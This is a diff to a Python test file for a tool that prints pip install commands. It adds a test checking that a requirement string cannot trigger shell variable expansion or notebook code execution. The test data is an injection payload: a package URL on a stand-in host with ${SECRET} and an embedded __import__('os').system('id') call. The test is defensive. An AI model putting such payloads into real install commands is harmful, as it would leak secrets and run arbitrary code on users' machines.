@@ -1,6 +1,7 @@
 """What people are told to type: a package that the package index has from another home is asked of this index alone."""
 
 import re
+import shlex
 from dataclasses import replace
 from html import unescape
 
@@ -49,6 +50,13 @@ def test_a_name_that_may_be_anothers_is_asked_of_this_index_alone(
         "pip install 'einops>=0.8; python_version < \"3.13\"'",
         "pip install --index-url ADDRESS --no-deps demo==1.0+cu130torch2.11",
     ]
+
+
+def test_a_requirement_names_no_variable_of_an_installer_and_no_code_of_a_notebook(release: Release) -> None:
+    requires = ("evil @ https://h.example/${SECRET}/{__import__('os').system('id')}",)
+    first, *_ = commands(site_of_releases(release(WHEEL, requires=requires), ""), None)
+    (text,) = shlex.split(first)[2:]
+    assert text == "evil @ https://h.example/$%7BSECRET%7D/%7B__import__('os').system('id')%7D"
 
 
 def test_what_the_package_index_has_from_the_same_home_may_be_looked_for_in_both(release: Release) -> None:
